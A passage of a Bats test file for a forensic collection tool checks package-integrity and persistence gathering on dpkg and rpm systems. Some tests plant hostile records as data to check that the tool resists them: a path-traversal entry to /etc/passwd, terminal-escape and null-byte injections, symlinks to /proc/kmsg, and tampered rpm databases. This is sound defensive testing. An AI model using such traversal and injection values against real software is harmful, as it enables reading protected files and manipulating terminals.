    [ "$(cat "$BATS_TEST_TMPDIR/status")" = 4 ]
    tar -xf "$OUT/taken.tar" -C "$BATS_TEST_TMPDIR"
    jq -se --arg sato $SATO 'map(select(.origin == $sato + "/dir" and .status == "timeout")) | length == 1' "$BATS_TEST_TMPDIR/taken/meta/absent.jsonl"
    tail -n +2 "$BATS_TEST_TMPDIR/taken/data/persistence/autostart.jsonl" | jq -se --arg tanaka $TANAKA 'any(.origin == $tanaka + "/.bashrc")'
    sound "$OUT/taken.tar"
}

@test "packages: what is altered, missing, diverted, replaced by something else; conffiles apart" {
    printf 'lib' | put /usr/lib/x86_64-linux-gnu/libone.so.1
    printf 'a' | put /usr/bin/altered 755
    printf 'm' | put /usr/bin/missing 755
    printf 'o' | put /usr/bin/other 755
    printf 'c' | put /etc/one.conf
    printf 'd' | put /usr/share/doc/one/readme
    printf 's' | put /sbin-not/same
    package one /usr/bin/tool /lib/x86_64-linux-gnu/libone.so.1 /usr/bin/altered /usr/bin/missing /usr/bin/other /etc/one.conf /usr/share/doc/one/readme
    printf 'div' | put /usr/bin/diverted 755
    package two /usr/bin/diverted
    mv "$ROOT/usr/bin/diverted" "$ROOT/usr/bin/diverted.distrib"
    printf '/usr/bin/diverted\n/usr/bin/diverted.distrib\nthree\n' | put /var/lib/dpkg/diversions
    printf 'x' >"$ROOT/usr/bin/altered"
    printf 'x' >"$ROOT/etc/one.conf"
    printf 'x' >"$ROOT/usr/share/doc/one/readme"
    rm "$ROOT/usr/bin/missing" "$ROOT/usr/bin/other"
    mkdir "$ROOT/usr/bin/other"
    take packages
    rows altered '[.origin, .status, .conffile, .package, .expected, .found]' >"$BATS_TEST_TMPDIR/altered"
    local x
    x=$(printf x | md5sum | cut -d' ' -f1)
    diff - "$BATS_TEST_TMPDIR/altered" <<TEXT
["/etc/one.conf","altered",true,"one","$(printf c | md5sum | cut -d' ' -f1)","$x"]
["/usr/bin/altered","altered",null,"one","$(printf a | md5sum | cut -d' ' -f1)","$x"]
["/usr/bin/missing","missing",null,"one","$(printf m | md5sum | cut -d' ' -f1)",null]
["/usr/bin/other","other-type",null,"one","$(printf o | md5sum | cut -d' ' -f1)",null]
TEXT
    [ "$(observed package-file-altered | tr '\n' ' ')" = "/usr/bin/altered /usr/bin/other " ]
    [ "$(observed package-file-missing)" = /usr/bin/missing ]
    rows packages '[.name, .version, .architecture, .status]' >"$BATS_TEST_TMPDIR/packages"
    diff - "$BATS_TEST_TMPDIR/packages" <<'TEXT'
["one","1.0-1","amd64","install ok installed"]
["two","1.0-1","amd64","install ok installed"]
TEXT
    cmp "$LISTS/var/lib/dpkg/status" "$ROOT/var/lib/dpkg/status"
    shaped altered altered-line
    shaped packages packages-line
    printf 'name: every\ntitle: {en: x, ja: x}\ndescription: {en: x, ja: x}\nsources:\n  - packages: {files: all}\n' >"$BATS_TEST_TMPDIR/every.yaml"
    rm -r "$OUT" && mkdir "$OUT"
    collect --item every --root "$ROOT" --profile-file "$BATS_TEST_TMPDIR/every.yaml" >"$BATS_TEST_TMPDIR/says"
    tar -xOf "$OUT/every.tar" every/data/packages/altered.jsonl | grep -q '"/usr/share/doc/one/readme"'
}

@test "packages: hostile records of dpkg, and a host without any" {
    take packages
    head -1 "$LISTS/packages.jsonl" | jq -e '.dpkg == false and .rpm == false'
    package one /usr/bin/tool
    printf 'z%.0s' {1..40} | put /var/lib/dpkg/info/one.md5sums
    printf 'd41d8cd98f00b204e9800998ecf8427e  ../../../../etc/passwd\nd41d8cd98f00b204e9800998ecf8427e  usr/bin/a\x00b\nshort\n\n' >>"$ROOT/var/lib/dpkg/info/one.md5sums"
    printf 'd41d8cd98f00b204e9800998ecf8427e  usr/bin/\033[2Jx\n' >>"$ROOT/var/lib/dpkg/info/one.md5sums"
    mkfifo "$ROOT/var/lib/dpkg/info/pipe.md5sums"
    ln -s one.md5sums "$ROOT/var/lib/dpkg/info/link.md5sums"
    printf 'Package: \033[2J\nVersion\nConffiles:\n /etc/x\n /etc/y zz\n\n\nnot a field\n' >>"$ROOT/var/lib/dpkg/status"
    mkdir -p "$ROOT/var/lib/rpm" && touch "$ROOT/var/lib/rpm/rpmdb.sqlite"
    take packages || true # 4: two lists are no files
    jq -se 'any(.origin == "/var/lib/dpkg/info" and .status == "io-error" and (.reason | startswith("2 lists")))' "$BUNDLE/meta/absent.jsonl"
    head -1 "$LISTS/packages.jsonl" | jq -e '.dpkg and .rpm'
    run ! env LC_ALL=C grep -q $'\033' "$LISTS/packages.txt" "$LISTS/altered.txt"
    shaped packages packages-line
    shaped altered altered-line
    [ -e "$LISTS/var/lib/rpm/rpmdb.sqlite" ]
    sound "$OUT/taken.tar"
}

@test "packages: of rpm, whatever size its database has" {
    mkdir -p "$ROOT/var/lib/rpm" "$ROOT/usr/bin" "$ROOT/etc"
    "$TOOLS/rpm_database.py" "$ROOT/var/lib/rpm/rpmdb.sqlite" 700
    local n i
    for n in 0 3 699; do
        for i in $(seq 0 2 38); do : >"$ROOT/usr/bin/p$n-file$i"; done
        for i in $(seq 1 2 37); do : >"$ROOT/etc/p$n-file$i"; done
    done
    printf x >"$ROOT/usr/bin/p3-file0"
    printf x >"$ROOT/usr/bin/p699-file38" # config, by its flag
    printf '* * * * * root /x\n' >"$ROOT/etc/p0-file1"
    mkdir -p "$ROOT/etc/cron.d" && ln -s ../p0-file1 "$ROOT/etc/cron.d/job"
    take packages
    head -1 "$LISTS/altered.jsonl" | jq -e '.rpm and .rpm_read and (.dpkg | not)'
    [ "$(rows packages .name | wc -l)" = 700 ]
    rows packages 'select(.name == "package699")' | jq -e '.version == "1.699-1" and .architecture == "x86_64" and .manager == "rpm" and .installed == "2023-11-14T22:24:59.000000000Z"'
    [ "$(rows altered 'select(.status == "altered") | [.origin, .algorithm, .conffile]' | sort)" = '["/etc/p0-file1","sha256",null]
["/usr/bin/p3-file0","sha256",null]
["/usr/bin/p699-file38","sha256",true]' ]
    [ "$(rows altered 'select(.status == "missing") | .origin' | wc -l)" = $((697 * 39)) ]
    [ "$(observed package-file-altered | sort | tr '\n' ' ')" = "/etc/p0-file1 /usr/bin/p3-file0 " ]
    take persistence
    rows autostart 'select(.origin == "/etc/cron.d/job")' | jq -e '.package == "package0" and .altered'
    printf 'frames' >"$ROOT/var/lib/rpm/rpmdb.sqlite-wal" # somebody writes into it
    take packages
    head -1 "$LISTS/altered.jsonl" | jq -e '.rpm and (.rpm_read | not)'
    jq -se 'any(.origin == "/var/lib/rpm" and .status == "unavailable")' "$BUNDLE/meta/absent.jsonl"
    # one damaged header: the others are listed, and nothing is called of no package for it
    rm "$ROOT/var/lib/rpm/rpmdb.sqlite-wal"
    python3 -c 'import sqlite3, sys; d = sqlite3.connect(sys.argv[1]); d.execute("UPDATE Packages SET blob = ? WHERE hnum = 1", (b"\0\0\0\1",)); d.commit()' \
        "$ROOT/var/lib/rpm/rpmdb.sqlite"
    take packages
    head -1 "$LISTS/altered.jsonl" | jq -e '.rpm and (.rpm_read | not)'
    [ "$(rows packages .name | wc -l)" = 699 ]
    take persistence
    rows autostart 'select(.origin == "/etc/cron.d/job")' | jq -e '(has("unowned") or has("package")) | not'
}

@test "packages: what rpm itself has installed" {
    mkdir "$BATS_TEST_TMPDIR/make"
    cat >"$BATS_TEST_TMPDIR/make/sample.spec" <<'SPEC'
Name: sample
Version: 1.2
Release: 3
Summary: sample
License: none
BuildArch: noarch
%description
sample
%install
mkdir -p %{buildroot}/usr/bin %{buildroot}/etc
printf tool >%{buildroot}/usr/bin/one
printf other >%{buildroot}/usr/bin/two
printf conf >%{buildroot}/etc/sample.conf
ln -s one %{buildroot}/usr/bin/link
%files
%attr(755,root,root) /usr/bin/one
/usr/bin/two
/usr/bin/link
%config /etc/sample.conf
SPEC
    rpmbuild -bb --define "_topdir $BATS_TEST_TMPDIR/make" "$BATS_TEST_TMPDIR/make/sample.spec" >"$BATS_TEST_TMPDIR/log" 2>&1
    rpm --root "$ROOT" --dbpath /var/lib/rpm -i --nodeps "$BATS_TEST_TMPDIR"/make/RPMS/noarch/*.rpm 2>"$BATS_TEST_TMPDIR/log"
    printf x >"$ROOT/usr/bin/two"
    rm "$ROOT/usr/bin/one"
    take packages
    [ "$(rows altered '[.origin, .status, .package]')" = $'["/usr/bin/one","missing","sample"]\n["/usr/bin/two","altered","sample"]' ]
    shaped packages packages-line
    shaped altered altered-line
}

@test "packages: databases of rpm that were tampered with end in no crash, no hang" {
    mkdir -p "$ROOT/var/lib/rpm"
    "$TOOLS/rpm_database.py" "$BATS_TEST_TMPDIR/base" 30
    local seed status
    for seed in $(seq 40); do
        rm -f "$ROOT/var/lib/rpm/rpmdb.sqlite" "$BATS_TEST_TMPDIR/again"
        "$TOOLS/rpm_database.py" "$ROOT/var/lib/rpm/rpmdb.sqlite" 30 "$seed"
        rm -rf "$OUT" && mkdir "$OUT" && status=0
        timeout -s KILL 120 "$HOZEN_BIN/hozen-collect" --case X --operator O --item x --out "$OUT" --root "$ROOT" --source packages >"$BATS_TEST_TMPDIR/says" 2>&1 || status=$?
        [ $status = 0 ] || { echo "seed $seed: $status"; cat "$BATS_TEST_TMPDIR/says"; false; }
    done
    head -c 70000 "$BATS_TEST_TMPDIR/base" >"$ROOT/var/lib/rpm/rpmdb.sqlite"
    take packages
    head -1 "$LISTS/altered.jsonl" | jq -e '.rpm_read | not'
}

@test "persistence: files with more than is looked at say so, and take no minutes" {
    { printf '[Service]\n' && yes Exec=a | head -n 1000000; } | put /etc/systemd/system/many.service
    { printf '[Service]\n' && yes '# nothing' | head -n 200000 && printf 'ExecStart=/opt/late\n'; } | put /etc/systemd/system/late.service
    printf '[Service]\nExecStart=/opt/late\n' | put /etc/systemd/system/short.service
    take persistence
    [ "$(rows autostart 'select(.cut) | .origin')" = $'"/etc/systemd/system/late.service"\n"/etc/systemd/system/many.service"' ]
    [ "$(rows autostart 'select(.name == "many.service")' | wc -l)" = 10000 ]
    jq -se 'any(.path == "data/persistence/autostart.jsonl" and .status == "limited")' "$BUNDLE/meta/catalog-000001.jsonl"
    grep -q 'many.service .*NOT LOOKED AT TO ITS END' "$LISTS/autostart.txt"
    [ "$(observed systemd-unit | sort -u | wc -l)" = 2 ]
    shaped autostart autostart-line
}

@test "persistence: a home with thousands of neighbours is looked into" {
    local n
    for n in $(seq 5000); do printf 'u%d:x:%d:%d::/home/u%d:/bin/sh\n' "$n" "$n" "$n" "$n"; done >>"$ROOT/etc/passwd"
    printf 'true\n' | put /home/u5000/.bashrc
    ulimit -Sn 256
    take persistence
    rows autostart 'select(.user == "u5000").name' | grep -q .bashrc
}

@test "persistence: a link to what the kernel gives away is not read" {
    need_root
    mkdir -p "$ROOT/proc" "$ROOT$SATO/.ssh"
    ln -s /proc/kmsg "$ROOT$SATO/.bashrc"
    ln -s ../../../proc/kmsg "$ROOT$SATO/.ssh/authorized_keys"
    ln -s /proc/kmsg "$ROOT$SATO/.bash_history"
    package tool /usr/bin/tool
    printf '0123456789abcdef0123456789abcdef  etc/../proc/kmsg\n' >>"$ROOT/var/lib/dpkg/info/tool.md5sums"
    cat >"$BATS_TEST_TMPDIR/script" <<SCRIPT
mount --bind /proc "$ROOT/proc"
ASAN_OPTIONS=detect_leaks=0 strace -f -y -e trace=openat,openat2,read,pread64 -o "$BATS_TEST_TMPDIR/trace" timeout -s KILL 250 \
    "$HOZEN_BIN/hozen-collect" --case C --operator O --out "$OUT" --item taken --compress none --root "$ROOT" \
    --source persistence --source accounts --source packages
SCRIPT
    timeout -s KILL 300 unshare --mount bash "$BATS_TEST_TMPDIR/script" || [ $? = 4 ]
    grep -q 'O_PATH) = .*/proc/kmsg>' "$BATS_TEST_TMPDIR/trace"
    run ! grep -E '(O_RDONLY|read|pread64).*/proc/kmsg' <(grep -v O_PATH "$BATS_TEST_TMPDIR/trace")
}

@test "packages: files are read no faster than --max-rate allows" {
    local n files=()
    for n in $(seq 40); do
        head -c 200000 /dev/zero | put "/usr/bin/large$n" 755
        files+=("/usr/bin/large$n")
    done
    package large "${files[@]}"
    printf x >>"$ROOT/usr/bin/large7"
    local begin=$EPOCHREALTIME
    take packages --max-rate 2M
    local end=$EPOCHREALTIME
    [ $(((${end/./} - ${begin/./}) / 100000)) -ge 30 ] # 8 MB in at least 3 of 4 seconds
    [ "$(observed package-file-altered)" = /usr/bin/large7 ]
}
